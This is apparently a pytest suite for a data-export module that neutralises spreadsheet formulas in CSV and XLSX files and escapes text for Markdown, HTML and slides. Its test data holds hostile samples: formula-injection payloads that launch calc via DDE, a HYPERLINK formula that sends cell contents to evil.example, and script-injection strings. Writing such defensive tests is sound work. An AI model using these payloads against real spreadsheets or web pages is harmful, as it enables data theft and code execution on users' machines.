"""Safe output: formulas neutralised in CSV and XLSX, text escaped for Markdown, HTML and slides."""

from __future__ import annotations

import io
import math
import time

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pptx import Presentation

from heatmap.output import safe

BOM = b"\xef\xbb\xbf"

# hostile cells and what a spreadsheet must be handed instead (hand-written)
FORMULAS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\tplain", "'\tplain"),
    ("\rplain", "'\rplain"),
    ("\x00plain", "'\x00plain"),
    ("  =1+1", "'  =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\u3000=1+1", "'\u3000=1+1"),
    ("\u00a0@A1", "'\u00a0@A1"),
    ("\ufeff=1", "'\ufeff=1"),
    ("\x01=1+1", "'\x01=1+1"),
    ("\x1b\x7f@A1", "'\x1b\x7f@A1"),
    ("＝1+1", "'＝1+1"),
    ("＋1+1", "'＋1+1"),
    ("－A1", "'－A1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("-", "'-"),
    ("-e5", "'-e5"),
    ("+3.2 pt", "'+3.2 pt"),
]
# texts that cannot be formulas, and plain numbers as texts: left as they are
UNCHANGED = [
    "朝阳区",
    "a=1",
    "'=1+1",  # already neutralised: the function is idempotent
    "—",
    "−3.5%",  # signed_percent's minus sign (U+2212) starts no formula
    "↑3",
    "",
    "-12.5",
    "+3.2%",
    "-1,234",
    "1e5",
    "-1.5E-3",
    " -7 ",
    "-.5",
    "－12",
]


@pytest.mark.parametrize(("value", "expected"), FORMULAS)
def test_a_formula_gets_a_quote(value: str, expected: str) -> None:
    assert safe.is_formula(value)
    assert safe.neutralise_cell(value) == expected


@pytest.mark.parametrize("value", UNCHANGED)
def test_texts_that_run_nothing_are_unchanged(value: str) -> None:
    assert not safe.is_formula(value)
    assert safe.neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-12, -12.5, 0, 3, None, True])
def test_numbers_and_none_are_never_touched(value: object) -> None:
    assert safe.neutralise_cell(value) is value


def test_nan_is_never_touched() -> None:
    assert math.isnan(safe.neutralise_cell(float("nan")))


@pytest.mark.parametrize("dtype", ["str", object])
def test_frames_and_cells_agree(dtype: object) -> None:
    """Arrow's RE2 (str columns) and Python's re (object columns) read the patterns alike."""
    values = [v for v, _ in FORMULAS] + UNCHANGED
    column = safe.neutralise_frame(pd.DataFrame({"x": pd.Series(values, dtype=dtype)}))["x"]
    assert column.tolist() == [e for _, e in FORMULAS] + UNCHANGED


def test_neutralise_cell_is_idempotent() -> None:
    once = safe.neutralise_cell("=1+1")
    assert safe.neutralise_cell(once) == once == "'=1+1"


def _frame() -> pd.DataFrame:
    index = [10, 10, 11, 12]  # a repeated label: positions, not labels, are changed
    return pd.DataFrame(
        {
            "town": pd.Series(["=HYPERLINK(1)", "甲街道", None, "-12.5"], index, dtype="str"),
            "mixed": pd.Series(["@A1", 7, None, "+x"], index, dtype=object),
            "volume": pd.Series([-1, 2, 3, 4], index),
            "rate": pd.Series([-0.5, np.nan, 0.25, 1.0], index),
            "kind": pd.Series(pd.Categorical(["=k", "街道", "=k", "镇"]), index),
            "=header": pd.Series(["a", "b", "c", "d"], index),
        }
    )


def test_neutralise_frame_quotes_text_cells_and_headers_only() -> None:
    frame = _frame()
    out = safe.neutralise_frame(frame)
    assert list(out.columns) == ["town", "mixed", "volume", "rate", "kind", "'=header"]
    assert out["town"].tolist()[:2] == ["'=HYPERLINK(1)", "甲街道"]
    assert pd.isna(out["town"].iloc[2]) and out["town"].iloc[3] == "-12.5"
    assert out["mixed"].tolist()[:2] == ["'@A1", 7] and out["mixed"].iloc[3] == "'+x"
    assert out["volume"].tolist() == [-1, 2, 3, 4] and out["volume"].dtype == "int64"
    assert out["rate"].iloc[0] == -0.5 and out["rate"].dtype == "float64"
    assert out["kind"].tolist() == ["'=k", "街道", "'=k", "镇"]
    assert list(out.index) == [10, 10, 11, 12]


def test_neutralise_frame_leaves_the_input_alone() -> None:
    frame = _frame()
    before = frame.copy()
    safe.neutralise_frame(frame)
    pd.testing.assert_frame_equal(frame, before)


def test_a_categorical_without_formulas_stays_categorical() -> None:
    frame = pd.DataFrame({"kind": pd.Categorical(["街道", "镇"])})
    assert isinstance(safe.neutralise_frame(frame)["kind"].dtype, pd.CategoricalDtype)


def test_an_object_column_without_texts() -> None:
    frame = pd.DataFrame({"x": pd.Series([1, None, 2.5], dtype=object)})
    pd.testing.assert_frame_equal(safe.neutralise_frame(frame), frame)


def test_a_hundred_thousand_rows_are_neutralised_by_column() -> None:
    n = 100_000
    names = np.array([f"街道{i}" for i in range(n)], dtype=object)
    names[::1000] = "=HYPERLINK(1)"
    frame = pd.DataFrame({"town": pd.Series(names, dtype="str"), "n": np.arange(n)})
    started = time.perf_counter()
    out = safe.neutralise_frame(frame)
    assert time.perf_counter() - started < 5  # generous: ~0.05 s here; row by row is minutes
    assert out["town"].str.startswith("'").sum() == 100
    assert out["town"].iloc[0] == "'=HYPERLINK(1)" and out["town"].iloc[1] == "街道1"


def test_csv_bytes_has_a_bom_and_no_live_formula() -> None:
    frame = pd.DataFrame({"镇": ["=1+1", "甲"], "变化": ["+3.2%", "-1.0%"], "n": [1, -2]})
    data = safe.csv_bytes(frame)
    assert data.startswith(BOM)
    assert data[len(BOM) :].decode("utf-8").splitlines() == [
        "镇,变化,n",
        "'=1+1,+3.2%,1",
        "甲,-1.0%,-2",
    ]


def test_csv_bytes_without_bom() -> None:
    data = safe.csv_bytes(pd.DataFrame({"a": ["@x"]}), bom=False)
    assert data == b"a\r\n'@x\r\n"


def _read_back(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_openpyxl_alone_would_write_a_formula() -> None:
    """Why neutralising is needed: openpyxl stores a text starting with '=' as a formula."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "=1+1"
    assert sheet["A1"].data_type == "f"


def test_xlsx_bytes_writes_every_text_as_text() -> None:
    frame = pd.DataFrame(
        {"town": ["=1+1", "@SUM(A1)", "-12.5", "甲"], "n": [1, 2, 3, 4]}, dtype=object
    )
    book = _read_back(safe.xlsx_bytes(frame, sheet="排名"))
    sheet = book["排名"]
    cells = [sheet.cell(row=r, column=1) for r in range(1, 6)]
    assert [c.value for c in cells] == ["town", "'=1+1", "'@SUM(A1)", "-12.5", "甲"]
    assert {c.data_type for c in cells} == {"s"}
    assert [sheet.cell(row=r, column=2).value for r in range(2, 6)] == [1, 2, 3, 4]


def test_a_formula_behind_a_control_character_stays_text() -> None:
    """openpyxl refuses \\x01, so it is removed; the formula it hid is then neutralised."""
    frame = pd.DataFrame({"\x01=h": ["\x01=HYPERLINK(1)", "\x08@A1"]})
    sheet = _read_back(safe.xlsx_bytes(frame)).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in (1, 2, 3)]
    assert [c.value for c in cells] == ["'=h", "'=HYPERLINK(1)", "'@A1"]
    assert {c.data_type for c in cells} == {"s"}


def test_xlsx_bytes_drops_characters_openpyxl_refuses() -> None:
    frame = pd.DataFrame({"a\x01": ["x\x00y\x1bz", "ok\tand\nlines"]})
    sheet = _read_back(safe.xlsx_bytes(frame)).active
    assert sheet is not None
    assert [sheet.cell(row=r, column=1).value for r in (1, 2, 3)] == ["a", "xyz", "ok\tand\nlines"]


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["台账/2020:09"], ["台账_2020_09"]),
        (["[a]*?\\b"], ["_a____b"]),
        (["'quoted'"], ["quoted"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 29 + "~2"]),
        ([""], ["Sheet"]),
    ],
)
def test_sheet_names_are_made_valid(names: list[str], expected: list[str]) -> None:
    tables = {n: pd.DataFrame({"a": [i]}) for i, n in enumerate(names)}
    if len(tables) < len(names):  # the same name twice: build distinct keys
        tables = {n + " " * i: pd.DataFrame({"a": [i]}) for i, n in enumerate(names)}
    book = _read_back(safe.xlsx_bytes(tables))
    assert [s.rstrip() for s in book.sheetnames] == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("*粗体*", r"\*粗体\*"),
        ("_x_", r"\_x\_"),
        ("[点我](javascript:alert(1))", "\\[点我\\]\\(javascript\\:\u2060alert\\(1\\)\\)"),
        ("<img src=x onerror=alert(1)>", r"\<img src\=x onerror\=alert\(1\)\>"),
        ("# 标题", r"\# 标题"),
        ("a | b", r"a \| b"),
        ("$x^2$", r"\$x\^2\$"),
        ("~~删除~~", r"\~\~删除\~\~"),
        ("`code`", r"\`code\`"),
        ("1. 列表", r"1\. 列表"),
        ("- 列表", r"\- 列表"),
        ("a\\b", r"a\\b"),
        ("&lt;", r"\&lt\;"),
        (":red[红字]", "\\:\u2060red\\[红字\\]"),
        (":material/home:", "\\:\u2060material\\/home\\:\u2060"),
        (":smile:", "\\:\u2060smile\\:\u2060"),
        (":streamlit:", "\\:\u2060streamlit\\:\u2060"),
        ("第一行\n# 第二行", r"第一行 \# 第二行"),
        ("甲\r\n\r\n    代码", "甲      代码"),
        ("朝阳区八里庄街道", "朝阳区八里庄街道"),
        ("www.evil.com", "www\u2060\\.evil\\.com"),  # GFM's bare links, found after escapes
        ("(WWW.evil.cn)", "\\(WWW\u2060\\.evil\\.cn\\)"),
        ("awww.cn", "awww\\.cn"),  # not a bare link: left alone
        ("a@b.com", "a\\@\u2060b\\.com"),
        ("https://e.x", "https\\:\u2060\\/\\/e\\.x"),
        (None, ""),
        (12.5, r"12\.5"),
    ],
)
def test_escape_markdown(text: object, expected: str) -> None:
    assert safe.escape_markdown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('" onmouseover="x', "&quot; onmouseover=&quot;x"),
        ("'single'", "&#x27;single&#x27;"),
        ("A&B", "A&amp;B"),
        ("八里庄街道", "八里庄街道"),
        (None, ""),
        (3, "3"),
    ],
)
def test_escape_html(text: object, expected: str) -> None:
    assert safe.escape_html(text) == expected


def test_escape_frame_html_escapes_the_tooltip_fields_only() -> None:
    frame = pd.DataFrame(
        {
            "town_name": ["<img src=x onerror=alert(1)>", "甲街道", None],
            "note": ["<b>", "<i>", "<u>"],
            "volume": [1, 2, 3],
        }
    )
    out = safe.escape_frame_html(frame, ["town_name", "volume"])
    assert out["town_name"].tolist()[:2] == ["&lt;img src=x onerror=alert(1)&gt;", "甲街道"]
    assert pd.isna(out["town_name"].iloc[2])
    assert out["note"].tolist() == ["<b>", "<i>", "<u>"]
    assert out["volume"].tolist() == [1, 2, 3]
    assert frame["town_name"].iloc[0].startswith("<img")  # the input is not modified


def test_escape_frame_html_defaults_to_every_text_column() -> None:
    frame = pd.DataFrame({"a": ["<"], "b": pd.Series([">"], dtype="str"), "n": [1]})
    out = safe.escape_frame_html(frame)
    assert out.iloc[0].tolist() == ["&lt;", "&gt;", 1]


def test_escape_frame_html_names_a_missing_column() -> None:
    with pytest.raises(KeyError, match=r"no column \['town'\].*columns: \['a'\]"):
        safe.escape_frame_html(pd.DataFrame({"a": ["x"]}), ["town"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("甲\x00乙\x01丙\x0b丁\x0c戊\x1f", "甲乙丙丁戊"),
        ("a\rb", "ab"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("del\x7f and c1\x85", "del and c1"),
        ("lone\ud800surrogate", "lonesurrogate"),
        ("non\ufffechar\uffff", "nonchar"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),  # python-pptx escapes XML itself
        (None, ""),
    ],
)
def test_pptx_text(text: object, expected: str) -> None:
    assert safe.pptx_text(text) == expected


def test_pptx_text_makes_a_slide_python_pptx_can_save_and_read() -> None:
    hostile = "标题\x00\x08\ud800<script>&\ufffe"
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    title = slide.shapes.title
    assert title is not None
    run = title.text_frame.paragraphs[0].add_run()
    with pytest.raises((ValueError, UnicodeEncodeError)):
        run.text = hostile  # without the clean-up python-pptx refuses it
    run.text = safe.pptx_text(hostile)
    buffer = io.BytesIO()
    deck.save(buffer)
    again = Presentation(io.BytesIO(buffer.getvalue()))
    shape = again.slides[0].shapes.title
    assert shape is not None and shape.text_frame.text == "标题<script>&"
